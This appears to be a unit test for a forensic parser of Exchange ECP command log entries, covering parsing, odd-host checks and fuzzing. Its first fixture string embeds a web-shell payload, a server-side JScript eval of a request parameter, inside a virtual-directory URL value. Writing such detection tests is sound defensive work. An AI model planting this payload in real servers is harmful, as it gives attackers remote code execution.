@@ -1,0 +1,52 @@
+package org.wachtpost.inspect.artefact;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+
+class EcpCommandTest {
+  @Test
+  void takesACommandApart() {
+    EcpCommand command =
+        EcpCommand.of(
+            "S:TIME=1;S:SID=x;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script"
+                + " language=''JScript'' runat=''server''>function Page_Load(){eval(Request[''a''],"
+                + "''unsafe'');}</script>'.Identity='7a1b';S:REQID=;S:URL=/ecp/x?a=1");
+    assertThat(command).isNotNull();
+    assertThat(command.name()).isEqualTo("Set-OabVirtualDirectory");
+    assertThat(command.parameter("identity")).isEqualTo("7a1b");
+    assertThat(command.addresses())
+        .singleElement()
+        .asString()
+        .contains("runat='server'")
+        .endsWith("</script>");
+    assertThat(EcpCommand.markup(command.addresses().getFirst())).isNotNull();
+  }
+
+  @Test
+  void aQuoteNeverClosedAndNullValues() {
+    EcpCommand command =
+        EcpCommand.parse("Set-OabVirtualDirectory.InternalUrl=$null.ExternalUrl='http://f/<%");
+    assertThat(command.addresses()).containsExactly("http://f/<%", "$null");
+    assertThat(EcpCommand.markup("http://mail.example.test/OAB")).isNull();
+    assertThat(EcpCommand.oddHost("http://f/")).isTrue();
+    assertThat(EcpCommand.oddHost("https://mail.example.test/OAB")).isFalse();
+  }
+
+  @Test
+  void survivesAnything() {
+    long seed = 26858;
+    System.out.println("EcpCommandTest seed " + seed);
+    Random random = new Random(seed);
+    String alphabet = "S:CMD=;.'\"$<%aZ-\0\n ";
+    for (int round = 0; round < 20_000; round++) {
+      StringBuilder text = new StringBuilder("S:CMD=Set-X.");
+      for (int i = random.nextInt(60); i > 0; i--) {
+        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
+      }
+      EcpCommand command = EcpCommand.of(text.toString());
+      assertThat(command).as("seed %d round %d", seed, round).isNotNull();
+    }
+  }
+}
